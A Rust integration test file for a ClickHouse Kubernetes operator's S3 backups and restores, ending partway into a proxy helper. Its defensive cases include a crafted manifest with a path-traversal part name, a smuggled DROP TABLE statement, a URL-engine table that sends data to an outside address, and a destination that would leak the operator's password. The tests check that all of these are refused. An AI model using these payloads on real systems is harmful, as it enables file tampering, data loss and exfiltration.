//! Backups on the local Kubernetes with real ClickHouse 18.16 servers and a real S3 server:
//! SeaweedFS (`weed mini`, built from Go modules by `hack/build-s3.sh`), run on this machine and
//! reached by the pods at the node's gateway address. Every byte of a backup goes through its S3
//! API; nothing is mocked.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::OnceLock;
use std::time::Duration;

use clickhouse_operator::api::{
    BackupState, ClickHouseBackup, ClickHouseCluster, ClickHouseRestore, RestoreState,
    S3Destination,
};
use clickhouse_operator::backup::store::{Bucket, Patience};
use clickhouse_operator::clickhouse::QueryOptions;
use clickhouse_operator::model::job::BACKUP_LABEL;
use clickhouse_operator::model::manifest;
use k8s_openapi::api::core::v1::{Pod, Secret};
use kube::api::{Api, DeleteParams, ListParams, PostParams};
use kube::{Client, ResourceExt};
use serde_json::json;

use crate::support::*;

const ACCESS: &str = "chop-access";
const SECRET: &str = "chop-secret-key";
const BUCKET: &str = "chop-backups";
const S3_PORT: u16 = 8333;
/// The HTTP port of the S3 server's filer (`weed mini`'s default).
const FILER_PORT: u16 = 8888;

/// The S3 server of this test process, started on first use, killed when the process ends.
struct S3Server {
    child: std::sync::Mutex<Child>,
    /// Its output, shown when it does not come up.
    log: PathBuf,
    /// Where the pods reach it.
    for_pods: String,
}

static S3: OnceLock<S3Server> = OnceLock::new();

fn s3() -> &'static S3Server {
    S3.get_or_init(|| {
        let weed = weed_binary();
        assert!(
            std::net::TcpListener::bind(("0.0.0.0", S3_PORT)).is_ok(),
            "port {S3_PORT} is taken: stop whatever S3 server runs there"
        );
        let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
            .join(format!("seaweedfs-{}", std::process::id()));
        std::fs::create_dir_all(dir.join("data")).unwrap();
        let config = dir.join("s3.json");
        std::fs::write(
            &config,
            json!({"identities": [{"name": "backup",
                "credentials": [{"accessKey": ACCESS, "secretKey": SECRET}],
                "actions": ["Admin", "Read", "Write", "List", "Tagging"]}]})
            .to_string(),
        )
        .unwrap();
        let log_path = dir.join("weed.log");
        let child = spawn_weed(
            &weed,
            vec![
                format!("-dir={}", dir.join("data").display()),
                format!("-s3.config={}", config.display()),
                format!("-bucket={BUCKET}"),
            ],
            &log_path,
        );
        S3Server {
            child: std::sync::Mutex::new(child),
            log: log_path,
            for_pods: format!("http://{}:{S3_PORT}", gateway()),
        }
    })
}

/// `hack/build-s3.sh`'s `weed`.
fn weed_binary() -> String {
    let repo = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let out = Command::new("bash")
        .arg(repo.join("hack/build-s3.sh"))
        .output()
        .expect("run hack/build-s3.sh");
    assert!(
        out.status.success(),
        "hack/build-s3.sh failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .last()
        .unwrap()
        .to_string()
}

/// The node network's gateway: where the pods reach this machine.
fn gateway() -> String {
    let network = std::fs::read_to_string(kubeconfig().with_file_name("network"))
        .expect("the local cluster's network file");
    network
        .lines()
        .find_map(|l| l.strip_prefix("GATEWAY="))
        .expect("GATEWAY in the network file")
        .to_string()
}

/// Starts `weed mini` with `args`, its output in `log`. Started from a thread that lives as
/// long as the process: the server dies with that thread (PDEATHSIG), so with the test process,
/// even one killed, and not before.
fn spawn_weed(weed: &str, args: Vec<String>, log: &std::path::Path) -> Child {
    let log = std::fs::File::create(log).unwrap();
    let weed = weed.to_string();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        use std::os::unix::process::CommandExt;
        let mut c = Command::new(&weed);
        c.args([
            "mini",
            "-ip=127.0.0.1",
            "-ip.bind=0.0.0.0",
            "-admin.ui=false",
        ])
        .args(&args)
        .stdin(Stdio::null())
        .stdout(log.try_clone().unwrap())
        .stderr(log);
        // SAFETY: only the async-signal-safe prctl runs between fork and exec.
        unsafe {
            c.pre_exec(|| {
                libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGKILL);
                Ok(())
            });
        }
        tx.send(c.spawn().expect("start weed mini")).unwrap();
        loop {
            std::thread::park();
        }
    });
    rx.recv().unwrap()
}

/// The bucket as this test process reaches it.
fn bucket(prefix: &str) -> Bucket {
    Bucket::open(
        &S3Destination {
            endpoint: format!("http://127.0.0.1:{S3_PORT}"),
            bucket: BUCKET.into(),
            prefix: Some(prefix.into()),
            secret_name: "unused".into(),
            ..S3Destination::default()
        },
        ACCESS,
        SECRET,
        "",
        Patience::Quick,
    )
    .unwrap()
}

/// Waits until the S3 server answers; when it exits or does not answer in time, the panic shows
/// its last error and the end of its log.
async fn wait_s3_up(server: &S3Server) {
    wait_weed_up(server, &bucket("probe"), FILER_PORT, BUCKET).await
}

/// [`wait_s3_up`] for the server whose bucket `b` (named `bucket`) has its filer on
/// `filer_port`.
async fn wait_weed_up(server: &S3Server, b: &Bucket, filer_port: u16, bucket: &str) {
    let http = reqwest::Client::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(180);
    loop {
        let err = match b.check().await {
            Ok(_) => return,
            Err(e) => e.to_string(),
        };
        // `weed mini -bucket` gives up creating the bucket when its filer does not answer within
        // 5 s (a loaded machine): the bucket is a folder of the filer, made here until it exists
        let _ = http
            .post(format!("http://127.0.0.1:{filer_port}/buckets/{bucket}/"))
            .timeout(Duration::from_secs(5))
            .send()
            .await;
        let exited = server.child.lock().unwrap().try_wait().ok().flatten();
        if exited.is_some() || tokio::time::Instant::now() >= deadline {
            let log = std::fs::read_to_string(&server.log).unwrap_or_default();
            let tail: Vec<&str> = log.lines().rev().take(40).collect();
            let tail: Vec<&str> = tail.into_iter().rev().collect();
            panic!(
                "the S3 server did not come up ({}); last error: {err}; end of {}:\n{}",
                match exited {
                    Some(status) => format!("it exited: {status}"),
                    None => "it still runs after 180 s".to_string(),
                },
                server.log.display(),
                tail.join("\n")
            );
        }
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
}

/// The S3 server up, a namespace, its operator (with `env` over its settings) and the Secret
/// `s3-creds` with good credentials.
async fn setup(
    prefix: &str,
    env: &[(&'static str, &str)],
) -> (&'static S3Server, Client, String, Operator) {
    let server = s3();
    let client = client().await;
    wait_s3_up(server).await;
    let ns = namespace(&client, prefix).await;
    let op = start_operator_env(&client, &ns, env).await;
    credentials(&client, &ns, "s3-creds", ACCESS, SECRET).await;
    watch_for_secrets(&[ACCESS, SECRET, "not-the-secret"]);
    (server, client, ns, op)
}

/// A Secret with S3 credentials, labelled as one (a Secret without the label is never read
/// for them).
async fn credentials(client: &Client, ns: &str, name: &str, access: &str, secret: &str) {
    let s: Secret = serde_json::from_value(json!({
        "metadata": {"name": name, "labels": {"clickhouse.com/s3-credentials": "true"}},
        "stringData": {"accessKeyId": access, "secretAccessKey": secret},
    }))
    .unwrap();
    Api::<Secret>::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &s)
        .await
        .unwrap();
}

async fn start_backup(client: &Client, ns: &str, name: &str, spec: serde_json::Value) {
    let b: ClickHouseBackup = serde_json::from_value(json!({
        "apiVersion": "clickhouse.com/v1alpha1", "kind": "ClickHouseBackup",
        "metadata": {"name": name}, "spec": spec,
    }))
    .unwrap();
    Api::<ClickHouseBackup>::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &b)
        .await
        .unwrap();
}

async fn wait_backup_done(client: &Client, ns: &str, name: &str) -> ClickHouseBackup {
    let api: Api<ClickHouseBackup> = Api::namespaced(client.clone(), ns);
    wait_for(
        Duration::from_secs(240),
        &format!("backup {name} to end"),
        || {
            let api = api.clone();
            async move {
                let b = api.get(name).await.ok()?;
                let state = b.status.as_ref()?.state;
                matches!(state, BackupState::Succeeded | BackupState::Failed).then_some(b)
            }
        },
    )
    .await
}

/// Rows per shard, as each replica of the shard counts them.
async fn rows_per_replica(client: &Client, ns: &str) -> BTreeMap<String, u64> {
    let c: ClickHouseCluster = Api::namespaced(client.clone(), ns).get("c1").await.unwrap();
    let mut out = BTreeMap::new();
    for replica in c.status.unwrap().replica_state_map.keys() {
        let ch = sql_client(client, ns, "c1", &format!("{replica}-0")).await;
        let n = query(&ch, "SELECT count() AS v FROM default.events").await;
        out.insert(replica.clone(), n[0].parse().unwrap());
    }
    out
}

/// S0-04, decision 26: a 2-shard × 2-replica cluster is backed up to a real S3 server, each
/// shard on its backup replica only (its FREEZE statements are in that replica's query log and
/// in no other's); the bucket holds the manifest, written last, and each shard's parts. A second,
/// incremental backup after a few more rows (a new partition: parts of the old ones do not
/// merge with it) reuses what the first uploaded and uploads a small fraction of it. A
/// destination with wrong credentials, a missing bucket or an endpoint that does not answer
/// ends `Failed` with the cause, and nothing is written as complete. Then the
/// table is dropped and a ClickHouseRestore brings every row back on every replica; a second
/// restore into the now non-empty table is refused.
#[tokio::test]
async fn backups_run_on_each_shards_backup_replica_and_build_on_each_other() {
    let (server, client, ns, op) = setup("backup", &[]).await;
    credentials(&client, &ns, "bad-creds", ACCESS, "not-the-secret").await;
    let unlabelled: Secret = serde_json::from_value(json!({
        "metadata": {"name": "unlabelled"},
        "stringData": {"accessKeyId": ACCESS, "secretAccessKey": SECRET},
    }))
    .unwrap();
    Api::<Secret>::namespaced(client.clone(), &ns)
        .create(&PostParams::default(), &unlabelled)
        .await
        .unwrap();
    let at = |endpoint: &str, bucket: &str, secret: &str| json!({"endpoint": endpoint, "insecure": true, "bucket": bucket, "secretName": secret});
    // nothing listens there (an address outside this machine would meet its proxy)
    let unreachable = server.for_pods.replace(&format!(":{S3_PORT}"), ":1");
    let elsewhere = [
        (
            "wrong-credentials",
            at(&server.for_pods, BUCKET, "bad-creds"),
            "refused the credentials",
        ),
        (
            "no-bucket",
            at(&server.for_pods, "no-such-bucket", "s3-creds"),
            "does not exist",
        ),
        (
            "unreachable",
            at(&unreachable, BUCKET, "s3-creds"),
            "cannot reach",
        ),
        (
            "no-secret",
            at(&server.for_pods, BUCKET, "missing"),
            "does not exist in namespace",
        ),
        (
            "unlabelled",
            at(&server.for_pods, BUCKET, "unlabelled"),
            "does not carry the label clickhouse.com/s3-credentials",
        ),
    ];
    create_cluster(
        &client,
        &ns,
        "c1",
        json!({"shards": 2, "replicas": 2, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
               "backup": {"destination": at(&server.for_pods, BUCKET, "s3-creds"),
                          "allowedDestinations": elsewhere.iter().map(|(_, d, _)| d.clone()).collect::<Vec<_>>()}}),
    )
    .await;
    let ready = wait_ready(&client, &ns, "c1", 1).await;
    let generated = operator_secrets(&client, &ns, "c1").await;
    watch_for_secrets(&generated.iter().map(String::as_str).collect::<Vec<_>>());
    let map = ready.status.unwrap().replica_state_map;
    let backup_replicas: BTreeMap<i32, String> = map
        .iter()
        .filter(|(_, r)| r.is_backup_pod)
        .map(|(n, r)| (r.shard, n.clone()))
        .collect();
    let any = map.keys().next().unwrap().clone();
    let ch = sql_client(&client, &ns, "c1", &format!("{any}-0")).await;
    exec(&ch, "CREATE TABLE IF NOT EXISTS default.events ON CLUSTER c1 (batch UInt64, id UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id)").await;
    exec(&ch, "CREATE TABLE IF NOT EXISTS default.events_all ON CLUSTER c1 AS default.events ENGINE = Distributed(c1, default, events, batch)").await;
    let sync = QueryOptions::new().setting("insert_distributed_sync", 1);
    for batch in 0..20 {
        ch.exec(&format!("INSERT INTO default.events_all SELECT {batch}, number FROM system.numbers LIMIT 20000"), &sync).await.unwrap();
    }
    tokio::time::sleep(Duration::from_secs(3)).await;

    start_backup(&client, &ns, "full", json!({"clusterName": "c1"})).await;
    let full = wait_backup_done(&client, &ns, "full").await;
    let st = full.status.clone().unwrap();
    assert_eq!(st.state, BackupState::Succeeded, "{:?}", st.message);
    let ran_on: BTreeMap<i32, String> = st
        .shards
        .iter()
        .map(|s| (s.shard, s.replica.clone()))
        .collect();
    assert_eq!(ran_on, backup_replicas, "each shard on its backup replica");
    println!(
        "full backup: {} bytes uploaded, {} reused",
        st.bytes_uploaded, st.bytes_reused
    );
    assert!(st.bytes_uploaded > 0 && st.bytes_reused == 0);
    for replica in map.keys() {
        let c = sql_client(&client, &ns, "c1", &format!("{replica}-0")).await;
        exec(&c, "SYSTEM FLUSH LOGS").await;
        // the table exists once a first query was logged there
        let logged = query(&c, "SELECT count() AS v FROM system.tables WHERE database = 'system' AND name = 'query_log'").await;
        let n: u64 = if logged[0] == "0" {
            0
        } else {
            let frozen = query(&c, "SELECT count() AS v FROM system.query_log WHERE type = 2 AND query LIKE 'ALTER TABLE % FREEZE'").await;
            frozen[0].parse().unwrap()
        };
        let is_backup = backup_replicas.values().any(|b| b == replica);
        assert_eq!(n > 0, is_backup, "{replica}: {n} FREEZE statements");
    }
    let b = bucket(&format!("{ns}/c1"));
    assert!(
        b.get(&manifest::manifest_key("full"), u64::MAX)
            .await
            .unwrap()
            .is_some()
    );
    for shard in [0, 1] {
        let m = b
            .get(&manifest::shard_manifest_key("full", shard), u64::MAX)
            .await
            .unwrap()
            .expect("the shard's manifest");
        let m: manifest::ShardManifest = serde_json::from_slice(&m).unwrap();
        let events = m.tables.iter().find(|t| t.name == "events").unwrap();
        assert!(!events.parts.is_empty(), "shard {shard} has parts");
        let objects = b.list(&format!("{}/", events.parts[0].key)).await.unwrap();
        assert!(
            objects.iter().any(|o| o.ends_with("checksums.txt")),
            "{objects:?}"
        );
    }

    ch.exec(
        "INSERT INTO default.events_all SELECT 100, number FROM system.numbers LIMIT 100",
        &sync,
    )
    .await
    .unwrap();
    tokio::time::sleep(Duration::from_secs(2)).await;
    start_backup(
        &client,
        &ns,
        "incr",
        json!({"clusterName": "c1", "incremental": true}),
    )
    .await;
    let incr = wait_backup_done(&client, &ns, "incr").await;
    let si = incr.status.clone().unwrap();
    assert_eq!(si.state, BackupState::Succeeded, "{:?}", si.message);
    assert_eq!(si.base.as_deref(), Some("full"));
    println!(
        "incremental backup: {} bytes uploaded, {} reused",
        si.bytes_uploaded, si.bytes_reused
    );
    assert!(si.bytes_reused >= st.bytes_uploaded / 2, "{si:?}");
    assert!(si.bytes_uploaded * 5 < st.bytes_uploaded, "{si:?}");

    // each cause of failure by its own destination, which the cluster allows; and two the
    // cluster does not name: the operator's password as an access key sent to a place of the
    // backup's choosing, and the cluster's bucket under another folder
    let mut cases = elsewhere.to_vec();
    let not_named = "is neither cluster c1's spec.backup.destination nor one of its spec.backup.allowedDestinations";
    cases.push((
        "exfiltrate",
        json!({"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
               "secretName": "c1-operator", "accessKeyIdKey": "password"}),
        not_named,
    ));
    cases.push((
        "other-folder",
        json!({"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
               "secretName": "s3-creds", "prefix": "other-team/c9"}),
        not_named,
    ));
    for (name, destination, says) in cases {
        start_backup(
            &client,
            &ns,
            name,
            json!({"clusterName": "c1", "destination": destination}),
        )
        .await;
        let b = wait_backup_done(&client, &ns, name).await;
        let s = b.status.unwrap();
        let message = s.message.unwrap_or_default();
        println!("{name}: {message}");
        assert_eq!(s.state, BackupState::Failed, "{name}");
        assert!(message.contains(says), "{name}: {message}");
        assert!(s.manifest.is_none());
    }
    assert!(
        bucket(&format!("{ns}/c1"))
            .get(&manifest::manifest_key("wrong-credentials"), u64::MAX)
            .await
            .unwrap()
            .is_none()
    );

    // Restore: the table dropped on every replica, then restored from the incremental backup
    // (which references the full one's parts): every row is back on both replicas of each
    // shard, and the Distributed count equals the one before.
    let before = rows_per_replica(&client, &ns).await;
    let total_before = query(&ch, "SELECT count() AS v FROM default.events_all").await;
    exec(&ch, "DROP TABLE default.events ON CLUSTER c1").await;
    start_restore(
        &client,
        &ns,
        "from-incr",
        json!({"clusterName": "c1", "backupName": "incr"}),
    )
    .await;
    let r = wait_restore_done(&client, &ns, "from-incr").await;
    let rs = r.status.unwrap();
    assert_eq!(rs.state, RestoreState::Succeeded, "{:?}", rs.message);
    println!("restore: {} bytes downloaded", rs.bytes_downloaded);
    let expected = before.clone();
    let restored = wait_for(
        Duration::from_secs(120),
        "every replica to hold its rows again",
        || {
            let (client, ns, expected) = (client.clone(), ns.clone(), expected.clone());
            async move {
                let now = rows_per_replica(&client, &ns).await;
                (now == expected).then_some(now)
            }
        },
    )
    .await;
    println!("rows per replica before and after: {restored:?}");
    assert_eq!(
        query(&ch, "SELECT count() AS v FROM default.events_all").await,
        total_before
    );
    // a second restore into tables that hold rows is refused, naming the table
    start_restore(
        &client,
        &ns,
        "again",
        json!({"clusterName": "c1", "backupName": "incr"}),
    )
    .await;
    let again = wait_restore_done(&client, &ns, "again")
        .await
        .status
        .unwrap();
    let message = again.message.unwrap_or_default();
    assert_eq!(again.state, RestoreState::Failed);
    assert!(
        message.contains("`default`.`events` already holds"),
        "{message}"
    );
    assert_eq!(
        rows_per_replica(&client, &ns).await,
        before,
        "nothing was added"
    );
    restore_from_a_lying_bucket_changes_nothing(&client, &ns, &map, &before).await;
    deleting_a_backup_removes_what_no_other_backup_references(&client, &ns).await;
    let _ = full.name_any();
    let mut secrets = vec![
        ACCESS.to_string(),
        SECRET.to_string(),
        "not-the-secret".into(),
    ];
    secrets.extend(operator_secrets(&client, &ns, "c1").await);
    assert_no_secret_leaked(&client, &ns, &secrets, true).await;
    finish(&client, &ns, op).await;
}

/// A snapshot of what a restore could change on every replica: its databases, tables and rows,
/// and on each backup replica the files under `metadata/` and the tables' `detached/` folders.
async fn what_a_restore_could_change(
    client: &Client,
    ns: &str,
    map: &BTreeMap<String, clickhouse_operator::api::ReplicaStatus>,
) -> BTreeMap<String, Vec<String>> {
    let mut out = BTreeMap::new();
    for (replica, r) in map {
        let ch = sql_client(client, ns, "c1", &format!("{replica}-0")).await;
        let mut seen = query(&ch, "SELECT arrayStringConcat(groupArray(concat(database, '.', name, ':', engine)), ',') AS v FROM (SELECT database, name, engine FROM system.tables WHERE database != 'system' ORDER BY database, name)").await;
        seen.extend(query(&ch, "SELECT arrayStringConcat(groupArray(name), ',') AS v FROM (SELECT name FROM system.databases ORDER BY name)").await);
        seen.extend(query(&ch, "SELECT toString(count()) AS v FROM default.events").await);
        if r.is_backup_pod {
            let volume = volume_path(
                client,
                ns,
                &clickhouse_operator::model::names::data_pvc(replica),
            )
            .await;
            for dir in ["metadata", "data/default/events/detached"] {
                let mut files: Vec<String> = walk(&volume.join(dir));
                files.sort();
                seen.push(format!("{dir}: {}", files.join(",")));
            }
        }
        out.insert(replica.clone(), seen);
    }
    out
}

/// Every path under `dir`, relative to it.
fn walk(dir: &std::path::Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        if e.path().is_dir() {
            out.extend(walk(&e.path()).into_iter().map(|p| format!("{name}/{p}")));
        }
        out.push(name);
    }
    out
}

/// Decision 29: whoever can write to the bucket writes manifests for a backup no
/// ClickHouseBackup here took, and a ClickHouseRestore names it. Shard 0's part would be written
/// over the server's `metadata/` folder (its part name climbs out of `detached/`), with the file
/// in the bucket where the manifest says; shard 1's database "statement" drops the table, and
/// it lists a table that would send every insert to another server. The restore fails with the
/// rule named, before anything is written: every replica keeps its databases, tables and rows,
/// and no file appears on the backup replicas' volumes.
async fn restore_from_a_lying_bucket_changes_nothing(
    client: &Client,
    ns: &str,
    map: &BTreeMap<String, clickhouse_operator::api::ReplicaStatus>,
    rows: &BTreeMap<String, u64>,
) {
    let before = what_a_restore_could_change(client, ns, map).await;
    let b = bucket(&format!("{ns}/c1"));
    let put = |key: String, value: Vec<u8>| {
        let b = b.clone();
        async move { b.put(&key, value).await.unwrap() }
    };
    let events = "CREATE TABLE default.events ( batch UInt64,  id UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id) SETTINGS index_granularity = 8192";
    let climbing = "../../../../metadata/default";
    let key = format!("backups/crafted/shard-0/{climbing}");
    put(
        format!("{key}/evil.sql"),
        b"ATTACH TABLE evil (x UInt8) ENGINE = Log".to_vec(),
    )
    .await;
    let table =
        |name: &str, engine: &str, create: &str, parts: Vec<manifest::Part>| manifest::Table {
            database: "default".into(),
            name: name.into(),
            engine: engine.into(),
            create: create.into(),
            parts,
        };
    let shards = [
        manifest::ShardManifest {
            format: manifest::FORMAT,
            backup: "crafted".into(),
            shard: 0,
            databases: BTreeMap::from([(
                "default".into(),
                "CREATE DATABASE IF NOT EXISTS `default`".into(),
            )]),
            tables: vec![table(
                "events",
                "ReplicatedMergeTree",
                events,
                vec![manifest::Part {
                    name: climbing.into(),
                    checksum: "0123456789abcdef".into(),
                    key,
                    files: BTreeMap::from([("evil.sql".into(), 40), ("checksums.txt".into(), 1)]),
                }],
            )],
            ..manifest::ShardManifest::default()
        },
        manifest::ShardManifest {
            format: manifest::FORMAT,
            backup: "crafted".into(),
            shard: 1,
            databases: BTreeMap::from([(
                "default".into(),
                "CREATE DATABASE IF NOT EXISTS `default`; DROP TABLE default.events".into(),
            )]),
            tables: vec![table(
                "exfil",
                "URL",
                "CREATE TABLE default.exfil (x String) ENGINE = URL('http://198.51.100.1/', CSV)",
                vec![],
            )],
            ..manifest::ShardManifest::default()
        },
    ];
    for m in &shards {
        put(
            manifest::shard_manifest_key("crafted", m.shard),
            serde_json::to_vec(m).unwrap(),
        )
        .await;
    }
    let top = manifest::Manifest {
        format: manifest::FORMAT,
        backup: "crafted".into(),
        namespace: ns.into(),
        cluster: "c1".into(),
        shards: vec![0, 1],
        base: None,
        completed: "2026-12-03T00:00:00Z".into(),
    };
    put(
        manifest::manifest_key("crafted"),
        serde_json::to_vec(&top).unwrap(),
    )
    .await;
    start_restore(
        client,
        ns,
        "crafted",
        json!({"clusterName": "c1", "backupName": "crafted"}),
    )
    .await;
    let r = wait_restore_done(client, ns, "crafted")
        .await
        .status
        .unwrap();
    let message = r.message.unwrap_or_default();
    println!("restore from a lying bucket: {:?}: {message}", r.state);
    assert_eq!(r.state, RestoreState::Failed, "{message}");
    assert!(
        message.contains("breaks a rule, nothing was restored"),
        "{message}"
    );
    assert!(
        message.contains("is not a part name") || message.contains("more than one statement"),
        "the rule is named: {message}"
    );
    // both shards' agents have ended (the restore removes its Jobs once it failed)
    let pods: Api<Pod> = Api::namespaced(client.clone(), ns);
    let lp = ListParams::default().labels(&format!("{BACKUP_LABEL}=crafted"));
    wait_for(
        Duration::from_secs(60),
        "the crafted restore's agents gone",
        || {
            let (pods, lp) = (pods.clone(), lp.clone());
            async move { pods.list(&lp).await.ok()?.items.is_empty().then_some(()) }
        },
    )
    .await;
    assert_eq!(what_a_restore_could_change(client, ns, map).await, before);
    assert_eq!(&rows_per_replica(client, ns).await, rows);
}

/// Decision 26: `deletionPolicy: Delete` on the full backup, which the incremental one builds on,
/// then the full backup deleted: its manifests and every object no other backup references are
/// gone from the bucket before the resource goes, the parts the incremental backup references
/// stay (it can still be restored), and an event says what was removed.
async fn deleting_a_backup_removes_what_no_other_backup_references(client: &Client, ns: &str) {
    let b = bucket(&format!("{ns}/c1"));
    let before: Vec<String> = b.list("backups/full/").await.unwrap();
    let incr_before: Vec<String> = b.list("backups/incr/").await.unwrap();
    let mut referenced: Vec<String> = Vec::new();
    for shard in [0, 1] {
        let m = b
            .get(&manifest::shard_manifest_key("incr", shard), u64::MAX)
            .await
            .unwrap()
            .unwrap();
        let m: manifest::ShardManifest = serde_json::from_slice(&m).unwrap();
        referenced.extend(m.keys().map(|k| format!("{k}/")));
    }
    let api: Api<ClickHouseBackup> = Api::namespaced(client.clone(), ns);
    let refused = api
        .patch(
            "full",
            &kube::api::PatchParams::default(),
            &kube::api::Patch::Merge(json!({"spec": {"incremental": true}})),
        )
        .await
        .expect_err("a backup's spec does not change");
    assert!(
        refused.to_string().contains("but for its deletionPolicy"),
        "{refused}"
    );
    api.patch(
        "full",
        &kube::api::PatchParams::default(),
        &kube::api::Patch::Merge(json!({"spec": {"deletionPolicy": "Delete"}})),
    )
    .await
    .unwrap();
    wait_for(
        Duration::from_secs(30),
        "the data finalizer on backup full",
        || {
            let api = api.clone();
            async move {
                let b = api.get("full").await.ok()?;
                b.finalizers()
                    .iter()
                    .any(|f| f == "clickhouse.com/backup-data")
                    .then_some(())
            }
        },
    )
    .await;
    api.delete("full", &DeleteParams::default()).await.unwrap();
    wait_for(Duration::from_secs(120), "backup full gone", || {
        let api = api.clone();
        async move { api.get_opt("full").await.ok()?.is_none().then_some(()) }
    })
    .await;
    let after: Vec<String> = b.list("backups/full/").await.unwrap();
    let kept_expected: Vec<&String> = before
        .iter()
        .filter(|o| referenced.iter().any(|k| o.starts_with(k.as_str())))
        .collect();
    println!(
        "backup full deleted: {} objects before, {} after, {} referenced by incr",
        before.len(),
        after.len(),
        kept_expected.len()
    );
    assert!(!kept_expected.is_empty(), "incr references parts of full");
    assert_eq!(
        after.iter().collect::<Vec<_>>(),
        kept_expected,
        "exactly the referenced parts stay"
    );
    assert!(
        after.len() < before.len(),
        "the manifests at least are gone"
    );
    assert_eq!(
        b.list("backups/incr/").await.unwrap(),
        incr_before,
        "incr untouched"
    );
    let events: Vec<String> =
        Api::<k8s_openapi::api::events::v1::Event>::namespaced(client.clone(), ns)
            .list(&ListParams::default())
            .await
            .unwrap()
            .items
            .into_iter()
            .filter(|e| e.reason.as_deref() == Some("BackupDataRemoved"))
            .filter_map(|e| e.note)
            .collect();
    assert!(
        events
            .iter()
            .any(|n| n.contains("kept, referenced by other backups")),
        "{events:?}"
    );
}

/// Every value of the cluster's generated Secret (the operator's password and the others).
async fn operator_secrets(client: &Client, ns: &str, cluster: &str) -> Vec<String> {
    let s = Api::<Secret>::namespaced(client.clone(), ns)
        .get(&format!("{cluster}-operator"))
        .await
        .unwrap();
    s.data
        .unwrap_or_default()
        .values()
        .map(|v| String::from_utf8_lossy(&v.0).into_owned())
        .collect()
}

/// Decision 29: none of `secrets` (the S3 keys and the cluster's generated passwords the
/// backups and restores of `ns` used) is in the status of a ClickHouseBackup or
/// ClickHouseRestore of `ns`, an Event of `ns`, an agent pod still there (its termination
/// message), the log of any agent of `ns` (the local kubelet keeps it after the pod: its last
/// line is the agent's report, the same text as its termination message), or a log line of
/// the operator.
async fn assert_no_secret_leaked(client: &Client, ns: &str, secrets: &[String], agents_ran: bool) {
    let mut texts: Vec<(String, String)> = Vec::new();
    for b in Api::<ClickHouseBackup>::namespaced(client.clone(), ns)
        .list(&ListParams::default())
        .await
        .unwrap()
    {
        texts.push((
            format!("backup {}", b.name_any()),
            serde_json::to_string(&b.status).unwrap(),
        ));
    }
    for r in Api::<ClickHouseRestore>::namespaced(client.clone(), ns)
        .list(&ListParams::default())
        .await
        .unwrap()
    {
        texts.push((
            format!("restore {}", r.name_any()),
            serde_json::to_string(&r.status).unwrap(),
        ));
    }
    for e in Api::<k8s_openapi::api::events::v1::Event>::namespaced(client.clone(), ns)
        .list(&ListParams::default())
        .await
        .unwrap()
    {
        texts.push((
            format!("event {}", e.name_any()),
            serde_json::to_string(&e).unwrap(),
        ));
    }
    for p in Api::<Pod>::namespaced(client.clone(), ns)
        .list(&ListParams::default().labels("app.kubernetes.io/name=clickhouse-backup-agent"))
        .await
        .unwrap()
    {
        texts.push((
            format!("pod {}", p.name_any()),
            serde_json::to_string(&p.status).unwrap(),
        ));
    }
    let mut agent_logs = 0;
    for e in std::fs::read_dir(pod_log_dir()).unwrap().flatten() {
        let dir = e.file_name().to_string_lossy().into_owned();
        if !dir.starts_with(&format!("{ns}_")) {
            continue;
        }
        for f in std::fs::read_dir(e.path()).unwrap().flatten() {
            if f.file_name() == "agent.log" {
                agent_logs += 1;
            }
            let text = std::fs::read_to_string(f.path()).unwrap_or_default();
            texts.push((
                format!("log {dir}/{}", f.file_name().to_string_lossy()),
                text,
            ));
        }
    }
    assert_eq!(
        agent_logs > 0,
        agents_ran,
        "agents' logs were scanned where agents ran"
    );
    let mut hits: Vec<String> = texts
        .iter()
        .filter(|(_, text)| secrets.iter().any(|s| text.contains(s.as_str())))
        .map(|(at, _)| at.clone())
        .collect();
    hits.extend(
        logged_secrets()
            .into_iter()
            .filter(|line| secrets.iter().any(|s| line.contains(s.as_str())))
            .map(|line| format!("operator log: {line}")),
    );
    println!(
        "secret scan: {} statuses, events, pods and logs ({agent_logs} agent logs) and the operator's log, {} secrets: {} hits",
        texts.len(),
        secrets.len(),
        hits.len()
    );
    assert!(hits.is_empty(), "a secret value leaked into: {hits:?}");
}

async fn start_restore(client: &Client, ns: &str, name: &str, spec: serde_json::Value) {
    let r: ClickHouseRestore = serde_json::from_value(json!({
        "apiVersion": "clickhouse.com/v1alpha1", "kind": "ClickHouseRestore",
        "metadata": {"name": name}, "spec": spec,
    }))
    .unwrap();
    Api::<ClickHouseRestore>::namespaced(client.clone(), ns)
        .create(&PostParams::default(), &r)
        .await
        .unwrap();
}

async fn wait_restore_done(client: &Client, ns: &str, name: &str) -> ClickHouseRestore {
    let api: Api<ClickHouseRestore> = Api::namespaced(client.clone(), ns);
    wait_for(
        Duration::from_secs(240),
        &format!("restore {name} to end"),
        || {
            let api = api.clone();
            async move {
                let r = api.get(name).await.ok()?;
                let state = r.status.as_ref()?.state;
                matches!(state, RestoreState::Succeeded | RestoreState::Failed).then_some(r)
            }
        },
    )
    .await
}

/// A forward HTTP proxy on this machine, reached by the pods at the node's gateway: it relays
/// each connection to the host its first request names (absolute-form, as a client talking to
/// a proxy sends it) and counts the connections that carried a request.
struct Proxy {
    for_pods: String,
    relayed: std::sync::Arc<std::sync::atomic::AtomicUsize>,
}

async fn proxy() -> Proxy {
    use std::sync::atomic::Ordering;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
